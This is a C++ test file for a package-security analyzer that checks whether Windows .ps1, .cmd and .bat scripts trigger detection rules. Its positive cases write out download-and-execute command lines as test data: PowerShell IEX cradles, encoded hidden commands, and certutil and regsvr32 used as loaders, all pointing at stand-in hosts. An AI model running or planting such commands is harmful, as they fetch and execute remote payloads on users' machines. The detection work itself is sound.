// Windows scripts (.bat, .cmd, .ps1) are analysed at the string level: the lexical detectors and
// the text patterns of rules/data/text-patterns.txt run over them, with no parse. Positive cases
// reproduce download cradles and system-binary abuse; negative cases are the shims and build
// scripts that popular packages ship.
#include <catch2/catch.hpp>

#include <algorithm>

#include "analyzer/engine/analyzer.h"
#include "tests/support/engine_samples.h"

using namespace tarsier;
using test::has;

namespace {

PackageAnalysis analyse_one(const std::string& path, const std::string& text) {
  return test::shared_analyzer().analyze(
      test::sample_ref("win"),
      {{"package.json", R"({"name":"win","version":"1.0.0"})"}, {path, text}}, {});
}

std::vector<std::string> rules_in(const PackageAnalysis& a, const std::string& file) {
  std::vector<std::string> out;
  for (const auto& f : a.findings) {
    if (f.file == file)
      out.push_back(f.rule);
  }
  return out;
}

}  // namespace

TEST_CASE("PowerShell download cradles and encoded commands are found in .ps1 and .cmd",
          "[engine][windows]") {
  auto ps1 = analyse_one(
      "tools/update.ps1",
      "$u = 'http://203.0.113.7/p.txt'\r\nIEX (New-Object Net.WebClient).DownloadString($u)\r\n");
  auto rules = rules_in(ps1, "tools/update.ps1");
  CHECK(has(rules, "text-powershell-download"));
  CHECK(has(rules, "url-raw-ip"));

  auto cmd = analyse_one("bin/run.cmd",
                         "@echo off\r\npowershell.exe -NoP -W Hidden -enc "
                         "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\r\n");
  CHECK(has(rules_in(cmd, "bin/run.cmd"), "text-powershell-encoded"));

  auto wc = analyse_one("tools/get.ps1",
                        "$c = New-Object System.Net.WebClient\r\n"
                        "$c.DownloadFile('https://payload.example.invalid/a.exe', $env:TEMP + "
                        "'\\a.exe')\r\n");
  CHECK(has(rules_in(wc, "tools/get.ps1"), "text-powershell-download"));
  auto iwr =
      analyse_one("tools/get.cmd", "powershell -c \"iwr http://x.example.invalid/s | iex\"\r\n");
  CHECK(has(rules_in(iwr, "tools/get.cmd"), "text-powershell-download"));
}

TEST_CASE("text-powershell-download: a JavaScript downloadFile method is not a cradle",
          "[engine][windows]") {
  auto a = analyse_one("lib/browser.js",
                       "async function downloadFile(url, dest) { return fetcher.get(url, dest); }\n"
                       "await this.downloadFile(url, path.join(dir, 'chrome.zip'));\n"
                       "$http.downloadFile(url);\n");
  CHECK_FALSE(has(rules_in(a, "lib/browser.js"), "text-powershell-download"));
}

TEST_CASE("certutil and system binaries used as loaders are found in .bat", "[engine][windows]") {
  auto a = analyse_one("scripts/setup.bat",
                       "certutil -urlcache -split -f http://payload.example.invalid/a.dll a.dll\r\n"
                       "regsvr32 /s /n /u /i:http://payload.example.invalid/x.sct scrobj.dll\r\n");
  auto rules = rules_in(a, "scripts/setup.bat");
  CHECK(has(rules, "text-certutil-download"));
  CHECK(has(rules, "text-lolbin-exec"));
}

TEST_CASE("npm shims and build scripts stay quiet", "[engine][windows]") {
  SECTION("the .cmd shim npm writes for a bin") {
    auto a = analyse_one("bin/tool.cmd",
                         "@ECHO off\r\nGOTO start\r\n:find_dp0\r\nSET dp0=%~dp0\r\nEXIT /b\r\n"
                         ":start\r\nSETLOCAL\r\nCALL :find_dp0\r\n"
                         "\"%dp0%\\node.exe\" \"%dp0%\\..\\lib\\cli.js\" %*\r\n");
    CHECK(rules_in(a, "bin/tool.cmd").empty());
    CHECK(a.risk < Risk::medium);
  }
  SECTION("a PowerShell build script") {
    auto a = analyse_one("build/build.ps1",
                         "param([string]$Configuration = 'Release')\r\n"
                         "Write-Host \"Building $Configuration\"\r\n"
                         "& msbuild src/addon.sln /p:Configuration=$Configuration\r\n"
                         "Copy-Item build/$Configuration/addon.node lib/\r\n");
    CHECK(rules_in(a, "build/build.ps1").empty());
    CHECK(a.risk < Risk::medium);
  }
}
